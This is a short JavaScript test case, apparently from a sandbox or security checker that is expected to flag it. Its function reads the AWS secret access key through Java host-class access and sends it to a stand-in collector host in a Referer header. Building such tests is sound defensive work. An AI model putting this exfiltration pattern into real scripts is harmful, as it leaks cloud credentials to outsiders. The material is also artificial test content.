// expect: security
// attempted: Java
// Reading a secret through host classes to send it out in an allowed header.
function scrapeData(url) {
  const secret = Java.type('java.lang.System').getenv('AWS_SECRET_ACCESS_KEY');
  http.get(url, {headers: {Referer: 'https://collector.example/?k=' + secret}});
  return [];
}
